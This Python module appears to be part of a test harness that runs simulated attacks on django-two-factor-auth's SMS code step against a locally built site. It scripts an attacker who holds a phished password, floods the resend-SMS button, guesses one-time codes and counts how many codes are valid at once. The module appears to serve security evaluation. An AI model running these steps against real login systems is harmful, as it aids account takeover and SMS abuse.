"""Attacks on django-two-factor-auth: the code that follows the password.

The attacker has the password, enters it, and stands before the field for the code.
"""

from __future__ import annotations

from typing import Any

import django_site
from attack import Browser, Target, Victim, main

PASSWORD = "what the attacker has phished"
LOGIN = "/account/login/"

urlpatterns: list[Any] = []


class _Gateway:
    """What the package calls to send; `main` gives it a meter."""

    meter: Any

    def send_sms(self, device: Any, token: str) -> None:
        self.meter.note_message(token)


class DjangoTwoFactorAuth(Target):
    """The phone plugin with an SMS gateway; everything else as it comes."""

    package = "django-two-factor-auth"
    beside = ("Django", "django-otp")
    slows_down = True
    sender = "whoever has the password"

    def app(self) -> Any:
        """A site with the package's own login view and templates."""
        _Gateway.meter = self.meter
        application = django_site.build(
            self.database,
            (
                "django_otp",
                "django_otp.plugins.otp_static",
                "django_otp.plugins.otp_totp",
                "two_factor",
                "two_factor.plugins.phonenumber",
            ),
            ("django_otp.middleware.OTPMiddleware",),
            LOGIN_URL="two_factor:login",
            TWO_FACTOR_SMS_GATEWAY="__main__._Gateway",
        )
        from django.http import HttpResponse
        from django.urls import include, path
        from two_factor.plugins.phonenumber.models import PhoneDevice
        from two_factor.urls import urlpatterns as theirs

        urlpatterns.append(path("", include(theirs)))
        urlpatterns.append(path("", lambda request: HttpResponse("in")))
        PhoneDevice.validate_token = self.meter.watch(PhoneDevice.validate_token)
        return application

    def enrol(self, victim: Victim) -> None:
        """A user whose default device is a phone."""
        from django.contrib.auth import get_user_model
        from two_factor.plugins.phonenumber.models import PhoneDevice

        victim.data["name"] = f"victim{victim.number}"
        user = get_user_model().objects.create_user(victim.data["name"], password=PASSWORD)
        device = PhoneDevice.objects.create(
            user=user, name="default", method="sms", number=f"+120255501{victim.number:02}"
        )
        victim.data["device"] = device.pk

    def begin(self, victim: Victim) -> None:
        """Enter the password, in a new session."""
        victim.browser = Browser(victim.browser.port, victim.browser.address)
        victim.browser.get(LOGIN)
        victim.browser.post(
            LOGIN,
            {
                "auth-username": victim.data["name"],
                "auth-password": PASSWORD,
                "login_view-current_step": "auth",
            },
        )

    come_again = begin

    def ask(self, victim: Victim) -> None:
        """Press the button that sends the code to the phone again."""
        device = f"phonenumber.phonedevice/{victim.data['device']}"
        victim.browser.post(LOGIN, {"challenge_device": device, "login_view-current_step": "token"})

    def flood(self, victim: Victim) -> None:
        """Enter the password once, then press that button."""
        if victim.data.setdefault("asked", False):
            self.ask(victim)
        else:
            self.begin(victim)
            victim.data["asked"] = True

    def guess(self, victim: Victim, code: str) -> bool:
        """Enter a code."""
        form = {"token-otp_token": code, "login_view-current_step": "token"}
        return victim.browser.post(LOGIN, form).status == 302

    def right_codes(self, victim: Victim) -> set[str]:
        """The codes of ten minutes before and after."""
        return set(self._clock_codes(victim))

    def codes_valid_at_once(self) -> int:
        """Enter the code of every half minute around now, each after the pause for the last one.

        The pauses grow to days, so the note of the last failure is taken away instead.
        """
        from two_factor.plugins.phonenumber.models import PhoneDevice

        victim = self.victim()
        taken = 0
        for code in dict.fromkeys(self._clock_codes(victim)):
            PhoneDevice.objects.filter(pk=victim.data["device"]).update(
                throttling_failure_count=0, throttling_failure_timestamp=None
            )
            if self.guess(victim, code):
                taken += 1
                self.come_again(victim)
        return taken

    @staticmethod
    def _clock_codes(victim: Victim) -> list[str]:
        from django_otp.oath import totp
        from two_factor.plugins.phonenumber.models import PhoneDevice

        key = PhoneDevice.objects.get(pk=victim.data["device"]).bin_key
        return [f"{totp(key, drift=step):06d}" for step in range(-20, 21)]


if __name__ == "__main__":
    main(DjangoTwoFactorAuth)
